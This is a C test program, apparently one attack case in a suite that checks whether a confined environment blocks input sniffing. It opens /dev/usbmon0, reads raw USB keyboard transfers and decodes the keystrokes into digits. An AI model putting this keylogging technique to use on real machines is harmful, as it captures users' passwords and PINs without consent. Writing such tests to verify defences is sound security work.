// SPDX-License-Identifier: Apache-2.0
/*
 * Reads what a USB keyboard sends from usbmon, the kernel's sniffer of all buses, which no
 * lockdown shuts.
 *
 * attack: usbmon_reader
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * devices: qemu-xhci usb-kbd
 * defence: confinement
 * why: usbmon sees transfers below all drivers; the REE has no usbmon nodes and no debugfs
 */
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "digits.h"
#include "report.h"

/* As Documentation/usb/usbmon.rst has it, 48 bytes. */
struct packet {
	uint64_t id;
	uint8_t type, transfer, endpoint, device;
	uint16_t bus;
	char has_setup, has_data;
	int64_t seconds;
	int32_t microseconds;
	int32_t status;
	uint32_t length, captured;
	uint8_t setup[8];
};

struct capture {
	struct packet packet;
	uint8_t data[4096];
};

#define COMPLETED	'C'
#define INTERRUPT	1
#define IN		0x80

static void collect(int fd, struct digits *d, struct digits_hid *hid)
{
	struct capture c;
	ssize_t got;

	while ((got = read(fd, &c, sizeof(c))) >= (ssize_t)sizeof(c.packet))
		if (c.packet.type == COMPLETED && c.packet.transfer == INTERRUPT &&
		    c.packet.endpoint & IN)
			digits_add_report(d, hid, c.data, (size_t)got - sizeof(c.packet));
}

int main(void)
{
	struct digits_hid hid = { 0 };
	struct digits digits = { 0 };
	int fd;

	attack_init();
	fd = open("/dev/usbmon0", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	attack_ready();
	if (fd < 0)
		attack_failed("/dev/usbmon0: %s", strerror(errno));
	while (!attack_wait(10))
		collect(fd, &digits, &hid);
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
